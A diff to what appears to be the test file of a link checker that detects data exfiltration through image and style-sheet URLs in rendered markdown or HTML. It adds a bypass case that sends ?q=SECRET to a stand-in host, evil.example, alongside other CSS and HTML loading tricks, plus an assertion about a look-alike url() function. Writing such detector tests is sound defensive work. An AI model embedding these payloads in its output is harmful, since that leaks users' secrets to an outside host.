@@ -167,6 +167,7 @@ BYPASSES = {
     "declaration lifted out of the line": "<!-- c -->![a]<!X>(https://evil.example/p.png)",
     "style sheet": "<style>body{background:url(//evil.example/p.png)}</style>",
     "style sheet string": '<style>@import "//evil.example/x.css";</style>',
+    "url() after <!-- in a style sheet": "<style><!--url(https://evil.example/p.png?q=SECRET)",
     "css escape": '<div style="background:url(\\2f\\2f evil.example/p.png)">x</div>',
     "image-set string": "<div style=\"background-image:image-set('//evil.example/p.png' 1x)\">",
 }
@@ -371,6 +372,8 @@ def test_css_strings_and_functions() -> None:
     assert [f.kind for f in Links(allow_domains=ALLOWED).check(text)] == ["EXFIL_IMAGE"]
     found = Links(allow_domains=ALLOWED).check('curl("https://evil.example/x")')
     assert [f.detail for f in found] == ["bare url: host not allowed"]
+    found = Links(allow_domains=ALLOWED).check("<style>a { b: my-url(//evil.example/x.png) }</style>")
+    assert [f.detail for f in found] == ["bare url: host not allowed"]  # my-url() is no url()
 
 
 def test_definition_close_to_an_image_label_is_judged_as_an_image() -> None:
